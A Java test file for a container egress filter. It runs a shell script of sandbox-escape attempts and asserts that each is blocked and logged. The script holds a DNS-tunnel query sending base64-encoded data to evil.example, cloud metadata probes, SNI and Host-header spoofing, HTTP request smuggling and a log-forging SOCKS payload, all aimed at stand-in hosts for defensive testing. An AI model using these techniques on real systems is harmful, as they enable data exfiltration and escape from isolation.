package io.carrel;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.common.base.Splitter;
import com.google.common.net.InetAddresses;
import io.carrel.netns.Egress;
import io.carrel.netns.EgressEvent;
import io.carrel.netns.EgressProcess;
import io.carrel.netns.NetworkNamespace;
import io.carrel.netns.NewLink;
import io.carrel.testing.ChildJvm;
import io.carrel.testing.Eventually;
import io.carrel.testing.NeedsProgram;
import io.carrel.testing.Outside;
import io.carrel.testing.TestServers;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.UnknownHostException;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ConcurrentSkipListSet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

/**
 * What a container can reach that may reach some names only, and what it cannot, however it tries. It all happens in
 * one network namespace that plays the host and the Internet, in a JVM of its own.
 */
@Tag("kernel")
@NeedsProgram({"curl", "dig", "ip", "perl", "socat", "unshare"})
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(120)
class EgressTest {

    /** What each attempt in {@link #ATTEMPTS} came to, and what the host saw. */
    private Map<String, String> results = Map.of();

    private static final String ATTEMPTS = """
        direct="curl -sS -k -m $patience --noproxy *"
        try() { name=$1; shift; echo "$name=$("$@" 2>&1 | tr -d '\\r' | tr '\\n' ' ')"; }
        status() { dig +time=$patience +tries=1 "$@" | sed -n 's/.*status: \\([A-Z]*\\),.*/\\1/p'; }
        set -f

        try http $direct http://repo.example.org/
        try https $direct https://repo.example.org/
        try wildcard $direct http://a.b.example.net/
        try keepalive $direct http://repo.example.org/1 http://repo.example.org/2
        try proxied curl -sS -m $patience http://repo.example.org/
        try connect curl -sS -k -m $patience https://repo.example.org/
        try two-names curl -sS -m $patience http://repo.example.org/ http://a.b.example.net/
        try socks curl -sS -k -m $patience -x socks5h://127.0.0.1:3128 https://repo.example.org/
        try greeting socat -T$patience - TCP:repo.example.org:8080
        try ipv6-only-name $direct http://six.example.net/
        try txt status repo.example.org TXT
        try aaaa status repo.example.org AAAA

        try direct-ip $direct http://198.51.100.10/
        try direct-ip-socket socat -T3 - TCP:198.51.100.10:8080
        try wildcard-itself $direct http://example.net/
        try other-port $direct http://repo.example.org:8081/
        try other-dns status @198.51.100.10 repo.example.org
        try tunnel status c2VjcmV0.evil.example TXT
        try tunnel-tcp status +tcp c2VjcmV0.evil.example
        try other-sni $direct --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
        try no-sni $direct https://127.1.0.1/evil
        try other-host $direct -H 'Host: other.example.org' http://repo.example.org/evil
        try no-tls $direct http://repo.example.org:443/evil
        try other-name-by-connect curl -sS -k -m $patience https://other.example.org/evil
        try other-port-by-connect curl -sS -m $patience -p -x http://127.0.0.1:3128 http://repo.example.org:81/evil
        try ip-by-connect curl -sS -k -m $patience https://198.51.100.10/evil
        try ip-by-proxy curl -sS -m $patience http://198.51.100.10/evil
        try other-sni-by-connect curl -sS -k -m $patience --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
        try ip-by-socks curl -sS -k -m $patience -x socks5://127.0.0.1:3128 http://198.51.100.10/evil
        try loopback-by-proxy curl -sS -m $patience --noproxy '' http://127.0.0.1:9999/evil
        try loopback $direct http://127.0.0.1:9999/evil
        try name-of-loopback $direct http://loop.example.net/evil
        try name-of-host $direct http://host.example.net/evil
        try name-of-host-6 $direct http://host6.example.net/evil
        try name-of-second-address curl -sS -m $patience http://second.example.net/evil
        try name-of-local-range curl -sS -m $patience http://range.example.net/evil
        try name-of-broadcast curl -sS -m $patience http://broadcast.example.net/evil
        try name-of-host-by-connect curl -sS -m $patience -p http://host.example.net/evil
        try name-of-host-by-socks curl -sS -m $patience -x socks5h://127.0.0.1:3128 http://host.example.net/evil
        try name-of-azure curl -sS -m $patience http://azure.example.net/evil
        try name-of-both $direct http://both.example.net/
        try name-of-private $direct http://private.example.net/evil
        try name-of-metadata curl -sS -m $patience http://meta.example.net/evil
        try name-of-mapped curl -sS -m $patience http://mapped.example.net/evil
        try metadata $direct http://169.254.169.254/evil
        try metadata-by-proxy curl -sS -m $patience http://169.254.169.254/evil
        try ipv6 $direct 'http://[2001:db8::1]/evil'
        try raw perl -e 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or print "refused: $!"'
        try packet perl -e 'socket(my $s, 17, 3, 768) or print "refused: $!"'
        try abstract socat -T3 - ABSTRACT-CONNECT:carrel-egress-test
        try udp perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"198.51.100.10:9") or print "refused: $!"'
        request='GET /1 HTTP/1.1\\r\\nHost: repo.example.org\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n'
        two() { printf "$request" | socat -T3 - TCP:repo.example.org:80; }
        try second-request two
        late() { perl -MIO::Socket::INET -e '
            my $s = IO::Socket::INET->new(PeerAddr => "repo.example.org", PeerPort => 8082) or die $!;
            print scalar <$s>;
            print $s "GET /late HTTP/1.1\\r\\nHost: $ARGV[0]\\r\\n\\r\\n";
            $s->flush;
            print <$s>' $1; }
        try late-name late repo.example.org
        try late-other-name late other.example.org
        hostile() { printf '\\5\\1\\0\\5\\1\\0\\3\\15evil\\ncarrel:x\\0\\120' | socat -T$patience - TCP:127.0.0.1:3128 | wc -c; }
        try hostile hostile
        """;

    /** Plays the host. */
    static final class World {

        private static final Map<String, List<String>> NAMES = Map.ofEntries(
                Map.entry("repo.example.org", List.of("198.51.100.10")),
                Map.entry("a.b.example.net", List.of("198.51.100.10")),
                Map.entry("other.example.org", List.of("198.51.100.10")),
                Map.entry("example.net", List.of("198.51.100.10")),
                Map.entry("six.example.net", List.of("2001:db8:100::10")),
                Map.entry("loop.example.net", List.of("127.0.0.1")),
                Map.entry("host.example.net", List.of("203.0.113.5")),
                Map.entry("host6.example.net", List.of("2001:db8:1::5")),
                Map.entry("second.example.net", List.of("203.0.113.6")),
                Map.entry("range.example.net", List.of("192.0.2.77")),
                Map.entry("broadcast.example.net", List.of("203.0.113.255")),
                Map.entry("azure.example.net", List.of("168.63.129.16")),
                Map.entry("both.example.net", List.of("203.0.113.5", "198.51.100.10")),
                Map.entry("private.example.net", List.of("10.1.2.3")),
                Map.entry("meta.example.net", List.of("169.254.169.254")),
                Map.entry("mapped.example.net", List.of("64:ff9b::a9fe:a9fe")));

        /** Another network namespace is the Internet: what this one has itself is the host's. */
        private static TestServers internet() throws Exception {
            try (NetworkNamespace here = NetworkNamespace.current();
                    NetworkNamespace internet = NetworkNamespace.create()) {
                here.links()
                        .add(NewLink.veth("out", NewLink.peer("world").into(internet.namespace()))
                                .up());
                internet.run(() -> run("ip link set world up && ip addr add 203.0.113.1/24 dev world"
                        + " && ip addr add 2001:db8:1::1/64 nodad dev world && ip addr add 198.51.100.10/32 dev lo"
                        + " && ip addr add 2001:db8:100::10/128 dev lo nodad"));
                run("ip addr add 203.0.113.5/24 broadcast + dev out && ip addr add 203.0.113.6/24 dev out"
                        + " && ip addr add 2001:db8:1::5/64 nodad dev out && ip route add local 192.0.2.0/24 dev lo"
                        + " && ip route add default via 203.0.113.1 && ip -6 route add default via 2001:db8:1::1");
                return internet.call(() -> TestServers.start(InetAddresses.forString("198.51.100.10")));
            }
        }

        private static void run(String script) throws Exception {
            int exit =
                    new ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor();
            assertThat(exit).as(script).isZero();
        }

        public static void main(String[] arguments) throws Exception {
            Set<String> resolved = new ConcurrentSkipListSet<>();
            ConcurrentLinkedQueue<EgressEvent> events = new ConcurrentLinkedQueue<>();
            TestServers servers = internet();
            TestServers ofTheHost = TestServers.start(InetAddresses.forString("0.0.0.0"));
            Process unix =
                    new ProcessBuilder("socat", "ABSTRACT-LISTEN:carrel-egress-test,fork", "EXEC:echo evil").start();
            try (ServerSocket loopback = new ServerSocket(9999, 1, InetAddress.getLoopbackAddress())) {
                Egress egress = Egress.allow("repo.example.org:80,443,8080,8082", "*.example.net")
                        .withListener(events::add)
                        .withResolver(name -> {
                            resolved.add(name);
                            List<String> addresses = NAMES.get(name);
                            if (addresses == null) {
                                throw new UnknownHostException(name);
                            }
                            return addresses.stream()
                                    .map(InetAddresses::forString)
                                    .toList();
                        });
                ContainerResult result = Container.builder()
                        .network(Network.egress(egress))
                        .environment("patience", arguments[0])
                        .timeout(Duration.ofSeconds(10 * Long.parseLong(arguments[0]))) // All but a few end at once.
                        .command("sh", "-c", ATTEMPTS)
                        .build()
                        .run();
                System.out.print(result.stdout());
                System.out.print(result.stderr());
                System.out.println("resolved=" + resolved);
                System.out.println("asked=" + servers.asked());
                System.out.println("asked-of-the-host=" + ofTheHost.asked());
                loopback.setSoTimeout(1);
                System.out.println("loopback-connections=" + connections(loopback));
                for (EgressEvent event : events) {
                    EgressProcess process = event.process();
                    String text = process == null
                            ? event.toString()
                            : event.toString().replace(" for " + process, "");
                    System.out.println("event " + text + "=");
                    System.out.println(event.kind().name().toLowerCase(Locale.ROOT) + " " + event.name() + " by "
                            + (process == null ? "nobody" : process.program()) + "=");
                }
            } finally {
                unix.destroy();
            }
            System.exit(0);
        }

        private static int connections(ServerSocket server) throws Exception {
            try {
                server.accept().close();
                return 1;
            } catch (SocketTimeoutException none) {
                return 0;
            }
        }
    }

    @BeforeAll
    void attempt() throws Exception {
        String world = "ip link set lo up && exec \"$@\"";
        String[] unshare = Outside.uid() == 0
                ? new String[] {"unshare", "-n", "sh", "-c", world, "sh"}
                : new String[] {"unshare", "-Urn", "sh", "-c", world, "sh"};
        String patience =
                Long.toString(Eventually.patience(Duration.ofSeconds(5)).toSeconds());
        String output = ChildJvm.by(unshare).run(World.class, patience).stdout();
        Map<String, String> read = new LinkedHashMap<>();
        Splitter.on('\n').omitEmptyStrings().splitToStream(output).forEach(line -> {
            int equals = line.indexOf('=');
            read.put(
                    equals < 0 ? line : line.substring(0, equals),
                    line.substring(equals + 1).strip());
        });
        results = read;
    }

    private String result(String attempt) {
        assertThat(results).containsKey(attempt);
        return String.valueOf(results.get(attempt));
    }

    @Test
    void allowedNamesAreReachedByTheirAddress() {
        assertThat(result("http")).isEqualTo("plain repo.example.org");
        assertThat(result("https")).isEqualTo("secure repo.example.org");
        assertThat(result("wildcard")).isEqualTo("plain a.b.example.net");
        assertThat(result("keepalive")).isEqualTo("plain repo.example.org plain repo.example.org");
        assertThat(result("greeting")).isEqualTo("greetings");
    }

    @Test
    void allowedNamesAreReachedByTheProxyOfTheEnvironment() {
        assertThat(result("proxied")).isEqualTo("plain repo.example.org");
        assertThat(result("connect")).isEqualTo("secure repo.example.org");
        assertThat(result("two-names")).isEqualTo("plain repo.example.org plain a.b.example.net");
        assertThat(result("socks")).isEqualTo("secure repo.example.org");
    }

    @Test
    void anAllowedNameHasNoOtherRecords() {
        assertThat(result("txt")).isEqualTo("NOERROR");
        assertThat(result("aaaa")).isEqualTo("NOERROR");
    }

    @Test
    void addressesThatNobodyGaveAreOutOfReach() {
        assertThat(result("direct-ip")).contains("Couldn't connect");
        assertThat(result("direct-ip-socket")).contains("Network is unreachable");
        assertThat(result("udp")).isEqualTo("refused: Network is unreachable");
        assertThat(result("ipv6")).contains("Couldn't connect");
        assertThat(result("metadata")).contains("Couldn't connect");
        assertThat(result("ip-by-connect")).contains("403");
        assertThat(result("ip-by-proxy")).isEqualTo("carrel: 198.51.100.10:80: it is not allowed");
        assertThat(result("ip-by-socks")).contains("(2)");
        assertThat(result("metadata-by-proxy")).isEqualTo("carrel: 169.254.169.254:80: it is not allowed");
    }

    @Test
    void otherNamesAndPortsAreRefused() {
        assertThat(result("wildcard-itself")).contains("Could not resolve host");
        assertThat(result("other-port")).contains("Couldn't connect");
        assertThat(result("other-port-by-connect")).contains("403");
        assertThat(result("other-name-by-connect")).contains("403");
    }

    @Test
    void deniedNamesReachNoNameServer() {
        assertThat(result("other-dns")).isEmpty();
        assertThat(result("tunnel")).isEqualTo("NXDOMAIN");
        assertThat(result("tunnel-tcp")).isEqualTo("NXDOMAIN");
        assertThat(result("resolved")).doesNotContain("evil").doesNotContain("other.example.org");
    }

    @Test
    void nobodyElseIsAskedForThroughAnAllowedConnection() {
        assertThat(result("other-sni")).contains("SSL_ERROR_SYSCALL");
        assertThat(result("other-sni-by-connect")).contains("SSL_ERROR_SYSCALL");
        assertThat(result("no-sni")).contains("SSL_ERROR_SYSCALL");
        assertThat(result("other-host")).contains("Empty reply");
        assertThat(result("no-tls")).contains("Empty reply");
        assertThat(result("second-request")).startsWith("HTTP/1.1 200 OK").endsWith("plain repo.example.org");
        assertThat(result("asked"))
                .isEqualTo(
                        "[a.b.example.net/, both.example.net/, repo.example.org/, repo.example.org/1, repo.example.org/2,"
                                + " repo.example.org/late]");
    }

    @Test
    void aNameIsCheckedHoweverLateItComes() {
        assertThat(result("late-name")).isEqualTo("hello late repo.example.org:8082");
        assertThat(result("late-other-name")).isEqualTo("hello");
        assertThat(results.keySet())
                .contains("event denied connection repo.example.org:8082: its HTTP request asks for other.example.org");
    }

    @Test
    void whatAContainerSaysForgesNoLine() {
        assertThat(results.keySet()).contains("event denied proxy evil\\ncarrel:x:80: it is not allowed");
    }

    @Test
    void anAllowedNameMustNotLeadToTheHostOrItsNeighbours() {
        assertThat(result("name-of-loopback")).contains("Could not resolve host");
        assertThat(result("name-of-private")).contains("Could not resolve host");
        assertThat(result("name-of-metadata")).endsWith("its addresses are not of the Internet: 169.254.169.254");
        assertThat(result("name-of-mapped")).contains("its addresses are not of the Internet");
    }

    @Test
    void anAllowedNameMustNotLeadToWhateverAddressTheHostHas() {
        assertThat(result("name-of-host")).contains("Could not resolve host");
        assertThat(result("name-of-host-6")).contains("Could not resolve host");
        assertThat(result("name-of-second-address")).endsWith("its addresses are the host's own: 203.0.113.6");
        assertThat(result("name-of-local-range")).endsWith("its addresses are the host's own: 192.0.2.77");
        assertThat(result("name-of-broadcast")).endsWith("its addresses are the host's own: 203.0.113.255");
        assertThat(result("name-of-host-by-connect")).contains("403");
        assertThat(result("name-of-host-by-socks")).contains("(2)");
        assertThat(result("name-of-azure")).endsWith("its addresses are not of the Internet: 168.63.129.16");
        assertThat(result("asked-of-the-host")).isEqualTo("[]");
    }

    @Test
    void ofSeveralAddressesTheHostsIsLeftOut() {
        assertThat(result("name-of-both")).isEqualTo("plain both.example.net");
    }

    @Test
    void theHostsOwnSocketsAreOutOfReach() {
        assertThat(result("loopback")).contains("Couldn't connect");
        assertThat(result("loopback-by-proxy")).isEqualTo("carrel: 127.0.0.1:9999: it is not allowed");
        assertThat(result("abstract")).contains("Connection refused");
        assertThat(result("raw")).isEqualTo("refused: Operation not permitted");
        assertThat(result("packet")).isEqualTo("refused: Operation not permitted");
        assertThat(result("loopback-connections")).isEqualTo("0");
    }

    @Test
    void everyAttemptIsOfAProcess() {
        assertThat(results.keySet())
                .contains(
                        "name repo.example.org by curl",
                        "connection repo.example.org by curl",
                        "connection repo.example.org by socat",
                        "name c2vjcmv0.evil.example by dig",
                        "proxy a.b.example.net by curl")
                .noneMatch(line -> line.endsWith(" by nobody"));
    }

    @Test
    void everyAttemptIsTold() {
        assertThat(results.keySet())
                .contains(
                        "event allowed name repo.example.org at 198.51.100.10",
                        "event allowed connection repo.example.org:443 at 198.51.100.10",
                        "event allowed proxy a.b.example.net:80 at 198.51.100.10",
                        "event denied name c2vjcmv0.evil.example: it is not allowed",
                        "event denied name private.example.net: its addresses are not of the Internet: 10.1.2.3",
                        "event denied connection repo.example.org:443: its TLS greeting asks for other.example.org",
                        "event denied connection repo.example.org:443: its TLS greeting names no server",
                        "event denied connection repo.example.org:80: its HTTP request asks for other.example.org",
                        "event denied name host6.example.net: its addresses are the host's own: 2001:db8:1::5",
                        "event denied connection six.example.net:80: 2001:db8:100:0:0:0:0:10: ECONNREFUSED",
                        "event denied proxy other.example.org:443: it is not allowed",
                        "event denied proxy 169.254.169.254:80: it is not allowed");
    }
}
